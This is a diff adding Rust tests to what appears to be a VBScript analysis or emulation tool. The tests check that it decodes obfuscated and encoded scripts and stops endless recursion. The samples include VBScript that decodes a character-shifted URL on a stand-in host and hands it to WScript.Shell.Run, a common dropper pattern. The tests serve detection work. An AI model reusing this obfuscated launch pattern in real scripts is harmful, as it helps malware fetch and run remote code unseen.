@@ -705,6 +705,43 @@ fn depth_is_bounded() {
     run("Function f(x) : f = f(f(x) + f(f(f(x)))) : End Function : y = f(1)", &limits);
 }
 
+#[test]
+fn procedures_call_themselves_as_often_as_a_text_has_letters() {
+    let url = format!("http://192.0.2.9/{}", "a".repeat(683));
+    let codes: String = url.chars().map(|it| format!("{:03}", it as u32 + 7)).collect();
+    let source = format!(
+        "Function D(s)\nIf Len(s) = 0 Then\nD = \"\"\nElse\nD = Chr(CInt(Mid(s, 1, 3)) - 7) & \
+         D(Mid(s, 4))\nEnd If\nEnd Function\n\
+         CreateObject(\"WScript.Shell\").Run D(\"{codes}\")"
+    );
+    let report = run(&source, &Limits::default());
+    assert_eq!(crate::told::told(&report), [format!("run {url}")], "{:?}", report.notes);
+}
+
+#[test]
+fn encoded_scripts_are_decoded_and_kept() {
+    let plain = "Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"http://192.0.2.9/<a>\"\r\n";
+    let report = run(&crate::encoded::tests::encoded(plain), &Limits::default());
+    assert_eq!(crate::told::told(&report), ["run http://192.0.2.9/<a>"]);
+    assert_eq!(report.layers.first().map(|it| &*it.text), Some(plain.as_bytes()));
+}
+
+#[test]
+fn endless_calls_end() {
+    let limits = Limits::default();
+    for source in [
+        "Function f(x)\nf = f(x + 1) & \"a\"\nEnd Function\ny = f(1)",
+        "Function f(x)\nIf x Then\nWith x\nFor i = 1 To 2\nf = ((((1 + (2 * f(x + 1))))))\nNext\n\
+         End With\nEnd If\nEnd Function\ny = f(1)",
+        "x = \"Execute x\" : Execute x",
+        "Class c\nFunction f\nf = Me.f & New c.f\nEnd Function\nEnd Class\nSet a = New c : a.f",
+        "a = 1\nDo\na = Array(a)\nLoop",
+    ] {
+        let report = run(source, &limits);
+        assert!(!report.notes.is_empty(), "{source}");
+    }
+}
+
 const PIECES: &[&str] = &[
     "If x Then",
     "Else",
